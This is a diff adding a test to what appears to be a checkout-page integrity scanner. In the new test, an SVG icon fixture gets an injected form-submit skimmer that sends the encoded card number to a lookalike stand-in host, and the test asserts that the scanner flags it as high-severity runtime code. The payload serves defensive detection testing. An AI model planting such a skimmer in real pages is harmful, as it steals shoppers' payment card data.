@@ -2,7 +2,7 @@
 
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
-import { APP_JS, CHECKOUT_HTML, LOADER_JS, PAY_SDK_JS, WIDGET_JS } from '../fixtures/shop.js';
+import { APP_JS, CHECKOUT_HTML, ICONS_SVG, LOADER_JS, PAY_SDK_JS, WIDGET_JS } from '../fixtures/shop.js';
 import { baselinedShop, type Scenario, type ScanJson } from './scenario.js';
 
 function only(json: ScanJson, type: string) {
@@ -98,6 +98,20 @@ describe('attacks on a baselined checkout page', () => {
     const initiator = added[0]!.details.initiator as { url: string };
     assert.match(initiator.url, /\/static\/loader\.js$/);
     assert.match(added[0]!.summary, /inserted by .*loader\.js/);
+    await s.cli('approve', '--all', '--by', 'alice');
+  });
+
+  it('reports new code hidden in an image and run through new Function, naming the script that ran it', async () => {
+    s.site.set('shop.test', '/img/icons.svg', ICONS_SVG.replace('window.iconsReady = true;', `window.iconsReady = true; document.forms[0].addEventListener('submit', function () { new Image().src = 'http://fontsawesome.test:{{PORT}}/i.gif?d=' + btoa(document.forms[0].cardnumber.value); });`));
+    const { json } = await s.scan();
+    const runtime = json.alerts.filter((a) => a.details.kind === 'eval');
+    assert.equal(runtime.length, 1, JSON.stringify(json.alerts, null, 2));
+    assert.ok(['script.changed', 'script.added'].includes(runtime[0]!.type));
+    assert.equal(runtime[0]!.severity, 'high');
+    assert.match((runtime[0]!.details.initiator as { url: string }).url, /\/static\/icons\.js$/);
+    assert.match(runtime[0]!.summary, /run by .*icons\.js/);
+    assert.equal(json.alerts.length, 1, 'the loader itself did not change');
+    s.site.set('shop.test', '/img/icons.svg', ICONS_SVG);
     await s.cli('approve', '--all', '--by', 'alice');
   });
 
